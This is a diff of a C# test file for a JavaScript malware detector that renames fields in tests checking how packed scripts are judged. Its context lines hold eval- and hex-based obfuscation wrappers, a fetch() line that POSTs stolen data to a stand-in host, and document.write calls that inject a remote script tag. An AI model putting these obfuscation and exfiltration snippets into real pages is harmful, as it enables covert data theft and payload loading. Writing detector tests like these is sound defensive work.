@@ -6,9 +6,9 @@ namespace PageShield.Tests.Detection;
 /// <summary>Honest code stays short of malicious however it is packed; what does harm does not get away by it.</summary>
 public sealed class HidingAloneTests
 {
-    private static readonly ScriptJudge _judge = new();
+    private static readonly ScriptJudge Judge = new();
 
-    private static readonly Dictionary<string, Func<string, string>> _packers = new(StringComparer.Ordinal)
+    private static readonly Dictionary<string, Func<string, string>> PackerNames = new(StringComparer.Ordinal)
     {
         ["codes"] = source =>
             $"var c=[{string.Join(',', source.Select(letter => (int)letter))}],s='';for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]);eval(s);",
@@ -17,7 +17,7 @@ public sealed class HidingAloneTests
         ["hex texts"] = source => $"Function('{string.Concat(source.Select(letter => $"\\x{(int)letter:x2}"))}')();",
     };
 
-    private static readonly Dictionary<string, string> _honest = new(StringComparer.Ordinal)
+    private static readonly Dictionary<string, string> Honest = new(StringComparer.Ordinal)
     {
         ["loader"] = """
             var base = 'https://stats.vendor-files.example/t.js', page = window.snapshot;
@@ -52,15 +52,15 @@ public sealed class HidingAloneTests
     };
 
     /// <summary>Every honest script in every packing.</summary>
-    public static TheoryData<string, string> Packed => [.. _honest.Keys.SelectMany(script => _packers.Keys.Select(packer => (script, packer)))];
+    public static TheoryData<string, string> Packed => [.. Honest.Keys.SelectMany(script => PackerNames.Keys.Select(packer => (script, packer)))];
 
     /// <summary>Every packing.</summary>
-    public static TheoryData<string> Packers => [.. _packers.Keys];
+    public static TheoryData<string> Packers => [.. PackerNames.Keys];
 
     [Theory]
     [MemberData(nameof(Packed))]
     public void Honest_code_is_at_most_suspicious_for_being_packed(string script, string packer) =>
-        Assert.NotEqual(VerdictKind.Malicious, _judge.Judge(new ScriptToJudge { Source = _packers[packer](_honest[script]) }).Verdict);
+        Assert.NotEqual(VerdictKind.Malicious, Judge.Judge(new ScriptToJudge { Source = PackerNames[packer](Honest[script]) }).Verdict);
 
     [Theory]
     [MemberData(nameof(Packers))]
@@ -72,23 +72,23 @@ public sealed class HidingAloneTests
                 fetch('https://metrics-collect.example/a', { method: 'POST', body: JSON.stringify(stolen) });
             });
             """;
-        Assert.Equal(VerdictKind.Malicious, _judge.Judge(new ScriptToJudge { Source = _packers[packer](source) }).Verdict);
+        Assert.Equal(VerdictKind.Malicious, Judge.Judge(new ScriptToJudge { Source = PackerNames[packer](source) }).Verdict);
     }
 
     [Theory]
     [MemberData(nameof(Packers))]
     public void A_tag_that_is_hidden_with_all_of_its_address_is_malicious(string packer) =>
         Assert.Equal(VerdictKind.Malicious,
-            _judge.Judge(
-            new ScriptToJudge { Source = _packers[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js"><\/script>')""") })
+            Judge.Judge(
+            new ScriptToJudge { Source = PackerNames[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js"><\/script>')""") })
             .Verdict);
 
     [Theory]
     [MemberData(nameof(Packers))]
     public void A_query_that_the_code_fixes_is_no_way_out(string packer) =>
         Assert.Equal(VerdictKind.Malicious,
-            _judge.Judge(
-            new ScriptToJudge { Source = _packers[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js?v=7"><\/script>')""") })
+            Judge.Judge(
+            new ScriptToJudge { Source = PackerNames[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js?v=7"><\/script>')""") })
             .Verdict);
 
     [Fact]
@@ -99,6 +99,6 @@ public sealed class HidingAloneTests
             later(function () { document.body.className = 'ready'; }, 10);
             later(decodeURIComponent(document.getElementById('template').textContent), 10);
             """;
-        Assert.DoesNotContain(_judge.Judge(new ScriptToJudge { Source = source }).Findings, finding => finding.Rule == "code-from-page-text");
+        Assert.DoesNotContain(Judge.Judge(new ScriptToJudge { Source = source }).Findings, finding => finding.Rule == "code-from-page-text");
     }
 }
